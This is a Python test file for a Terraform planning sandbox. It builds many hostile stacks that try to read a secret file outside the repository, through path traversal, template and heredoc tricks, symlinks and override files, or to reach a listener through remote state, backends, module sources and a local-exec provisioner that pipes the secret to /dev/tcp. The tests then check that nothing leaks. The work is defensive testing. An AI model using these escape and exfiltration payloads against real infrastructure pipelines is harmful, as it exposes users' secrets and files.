"""Stacks that try to read files outside the monorepo, or to use the network, while they are planned."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from plan_house import House, config_map, small_house
from support import needs

from scaffold.terraform import planned, schemas
from scaffold.terraform.result import PlanResult, StandInKind
from scaffold.terraform.runner import plan_stacks

pytestmark = needs("terraform")

SECRET = "what only the user may read"
# Two directories of a run lie above its home, and the copy is as deep.
HOME = '${lower("~")}/../../../../../../../../..'


def remote_state(address: str) -> str:
    return (
        'data "terraform_remote_state" "r" {\n  backend = "http"\n'
        f'  config  = {{ address = "{address}" }}\n}}\n'
    )


def escapes(secret: str, listener: str) -> dict[str, dict[str, str]]:
    """Files of stacks by name; ``secret`` is an absolute path, ``listener`` an address that hears."""
    home, url = f"{HOME}{secret}", f"http://{listener}/{{}}"
    output = 'output "o" {\n  value = data.terraform_remote_state.r\n}\n'
    read = f'file("{secret}")'
    found: dict[str, dict[str, str]] = {}
    for function in ("file", "filebase64", "filesha512", "core::file", "fileexists"):
        call = f'{function}("{home}")'
        found[f"home-{function.replace('::', '-')}"] = {"main.tf": config_map(f"tostring({call})")}
    functions = {
        "home-template": f'templatefile("{home}", {{}})',
        "home-fileset": f'join(",", fileset("{HOME}/etc", "*"))',
        "home-heredoc": f"file(trimspace(<<-EOT\n{home}\nEOT\n))",
        "home-nested": 'file(file("${path.module}/where.txt"))',
        "home-spread": f'file(["{home}"]...)',
        "home-conditional": f'true ? file(true ? "{home}" : "") : ""',
        "alternatives": 'join(",", fileset(path.module, "{..,x}/../../*"))',
        "link": 'file("${path.module}/link/hostname")',
        "template-string": f'templatestring(local.t, {{ p = "{secret}" }})',
        "template-of-templates": 'templatefile(join("/", [path.module, "a.tpl"]), {})',
        "template-mark": 'templatefile("${path.module}/mark.tpl", {})',
        "own-comment": 'templatefile("${path.module}/main.tf", {})',
        "own-comment-later": 'templatefile(join("/", [path.module, "MAIN.TF/../main.tf"]), {})',
        "own-override": f'templatefile(join("/", [path.module, "scaffold_override.tf.json"]), {{ p = "{secret}" }})',
        "function": f"provider::terraform::encode_expr({read})",
        "heredoc-mark": f"<<-EOT\nEOT${{{read}}}\nEOT\n",
        "heredoc-directive": f'<<EOT\n  EOT %{{ if fileexists("{secret}") }}yes%{{ endif }}\nEOT\n',
        "heredoc-escape": f"<<EOT\n$$${{ /*\n${{{read}}}\n*/ 1}}\nEOT\n",
        "heredoc-space": f"<<EOT\n\u2003EOT\ny = {read}\nz = <<EOT\nEOT\n",
        "heredoc-long": f"<<{'L' * 200}\nA\n/* ${{{read}}}\n{'L' * 200}\n# */\n",
        "heredoc-long-word": f"<<{'L' * 200}\n{'L' * 200} /* ${{{read}}}\n{'L' * 200}\n# */\n",
        "heredoc-wide": f"<<\u0169\ni\n/* ${{{read}}}\n\u0169\n# */\n",
    }
    files = {
        "where.txt": home.replace('${lower("~")}', "~"),
        "a.tpl": '${templatefile("b.tpl", {})}',
        "b.tpl": f"${{{read}}}",
        "mark.tpl": f"SCAFFOLD_TEMPLATE${{{read}}}\nTEMPLATE${{{read}}}\n",
        "terragrunt.hcl": 'inputs = {\n  more = "$${file(p)}"\n}\n',
    }
    more = 'locals {\n  t = "x"\n}\nvariable "more" {\n  default = ""\n}\n' + f"# ${{{read}}}\n"
    for name, call in functions.items():
        found[name] = {"main.tf": config_map(call, more), **files}
    found |= {
        "state-http": {"main.tf": remote_state(url.format("plain")) + output},
        "state-off": {
            "main.tf": remote_state(url.format("off")) + output,
            "override.tf": 'resource "terraform_data" "scaffold_stand_in" {\n  count = 0\n}\n',
        },
        "state-off-json": {
            "main.tf": remote_state(url.format("json")) + output,
            "x_override.tf.json": '{"resource": {"terraform_data": {"scaffold_stand_in": {"count": 0}}}}',
        },
        "state-depends": {
            "main.tf": remote_state(url.format("depends")) + output,
            "override.tf": 'data "terraform_remote_state" "r" {\n  depends_on = []\n}\n',
        },
        "state-local": {
            "main.tf": 'data "terraform_remote_state" "r" {\n  backend = "local"\n'
            f'  config  = {{ path = "{secret}" }}\n}}\n' + output
        },
        "state-alias": {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf": 'terraform {\n  required_providers {\n    t = {\n'
            '      source = "terraform.io/builtin/terraform"\n    }\n  }\n}\n'
            + remote_state(url.format("alias")).replace("backend", "provider = t\n  backend")
            + output
        },
        "state-module": {
            "main.tf": 'module "m" {\n  source = "./m"\n}\n',
            "m/main.tf": remote_state(url.format("module")) + output,
        },
        "state-check": {
            "main.tf": 'check "c" {\n' + remote_state(url.format("check")) + '  assert {\n'
            '    condition     = data.terraform_remote_state.r.outputs.x == ""\n    error_message = "x"\n  }\n}\n'
        },
        "state-template": {
            # A template that is the configuration was written over it, with nothing deferred.
            "main.tf": remote_state(url.format("template"))
            + config_map('templatefile("${path.module}/main.tf", { file = "x" })')
            + f"# $${{{read}}}\n"
        },
        "state-cli": {"main.tf": remote_state(url.format("cli")) + output, ".terraformrc": "", "x.auto.tfvars": ""},
        "module-override": {
            "main.tf": config_map('"x"'),
            "override.tf": 'module "m" {\n  source = "./evil"\n}\n',
            "z.tf": 'module "m" {\n  source = "./good"\n}\n',
            "good/main.tf": 'output "o" {\n  value = 1\n}\n',
            "evil/main.tf": remote_state(url.format("evil")),
        },
        "locals-override": {
            "z.tf": config_map("file(local.p)") + 'locals {\n  p = "z.tf"\n}\n',
            "a_override.tf": f'locals {{\n  p = "{secret}"\n}}\n',
        },
        "test-module": {
            "main.tf": 'output "o" {\n  value = nothing\n}\n',
            "tests/x.tftest.hcl": f'run "x" {{\n  module {{\n    source = "{url.format("test.zip")}"\n  }}\n}}\n',
        },
        "source": {"main.tf": f'module "m" {{\n  source = "{url.format("m.zip")}"\n}}\n'},
        "source-later": {"main.tf": 'locals {\n  s = "./m"\n}\nmodule "m" {\n  source = local.s\n}\n'},
        "backend": {
            "main.tf": config_map('"x"')
            + f'terraform {{\n  backend "http" {{\n    address = "{url.format("backend")}"\n  }}\n}}\n'
        },
        "cloud": {
            "main.tf": config_map('"x"')
            + f'terraform {{\n  cloud {{\n    hostname     = "{listener}"\n    organization = "x"\n  }}\n}}\n'
        },
        "provider-host": {
            "main.tf": f'terraform {{\n  required_providers {{\n    x = {{\n      source = "{listener}/a/x"\n'
            '    }\n  }\n}\nresource "x_y" "z" {\n}\n'
        },
        "provisioner": {
            "main.tf": 'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
            f'    command = "cat {secret} > /dev/tcp/{listener.replace(":", "/")}"\n  }}\n'
            f'  connection {{\n    host = "{listener}"\n  }}\n}}\n'
        },
        "ephemeral": {
            "main.tf": f'ephemeral "http" "x" {{\n  url = "{url.format("ephemeral")}"\n}}\n'
        },
        "import": {"main.tf": f"import {{\n  to = terraform_data.x\n  id = {read}\n}}\n" + config_map('"x"')},
        "removed": {
            "main.tf": "removed {\n  from = terraform_data.x\n  lifecycle {\n    destroy = false\n  }\n}\n"
            + config_map(read)
        },
        "generated": {
            "main.tf": config_map('"x"'),
            "terragrunt.hcl": f'generate "x" {{\n  path      = "x_override.tf"\n  if_exists = "overwrite"\n'
            f'  contents  = <<EOT\noutput "o" {{\n  value = {read.replace("file", "filebase64")}\n}}\nEOT\n}}\n',
        },
        "state-file": {
            "main.tf": config_map('file("${path.module}/.terraform/terraform.tfstate")'),
            ".terraform/terraform.tfstate": json.dumps(
                {
                    "version": 3,
                    "backend": {"type": "http", "config": {"address": url.format("kept")}, "hash": 1},
                }
            ),
        },
        "odd ${file(p)}\n-x": {"main.tf": config_map(f'file("{home}")')},
    }  # fmt: skip
    return found


MAY_PLAN = {
    # Nothing of the escape is left in the working copy: the rest is planned.
    *(
        "state-http",
        "state-depends",
        "state-local",
        "state-alias",
        "state-module",
        "state-check",
    ),
    *(
        "state-cli",
        "module-override",
        "backend",
        "cloud",
        "provisioner",
        "state-file",
    ),
}


@pytest.fixture(scope="module")
def heard() -> Iterator[tuple[str, list[bytes]]]:
    """An address on loopback, and all that somebody said there."""
    said: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen() -> None:
            while True:
                try:
                    with server.accept()[0] as client:
                        client.settimeout(1)
                        said.append(client.recv(1000))
                except OSError:
                    return

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", said
        server.shutdown(socket.SHUT_RDWR)


@pytest.fixture(scope="module")
def secret(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("user") / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.fixture(scope="module")
def plans(
    tmp_path_factory: pytest.TempPathFactory, secret: Path, heard: tuple[str, list[bytes]]
) -> Mapping[str, PlanResult]:
    house: House = small_house(tmp_path_factory.mktemp("escapes"))
    files = escapes(str(secret), heard[0])
    for stack, content in files.items():
        house.write({f"stacks/{stack}/{path}": text for path, text in content.items()})
    (house.root / "stacks/link/link").symlink_to("/etc")
    return {r.stack: r for r in plan_stacks(house.root, list(files), workers=2, known=schemas.load())}


def shown(result: PlanResult) -> str:
    return json.dumps(planned.to_json(result.resources)) + str(result)


@pytest.mark.parametrize("stack", escapes("/x", "127.0.0.1:1"))
def test_nothing_gets_out(
    plans: Mapping[str, PlanResult], heard: tuple[str, list[bytes]], secret: Path, stack: str
) -> None:
    result = plans[stack]
    assert SECRET not in shown(result) and "d2hhdCBvbmx5" not in shown(result)
    assert "scaffold-plan-" not in str(result.findings) and "scaffold_each" not in str(result.findings)
    assert result.ok == (stack in MAY_PLAN), result.findings
    assert not heard[1]


def test_data_of_what_is_built_in_stands_in(plans: Mapping[str, PlanResult]) -> None:
    for stack in ("state-http", "state-alias", "state-module", "state-check"):
        told = [stand_in.what for stand_in in plans[stack].stand_ins if stand_in.kind is StandInKind.DATA]
        assert told == ["data.terraform_remote_state.r"]
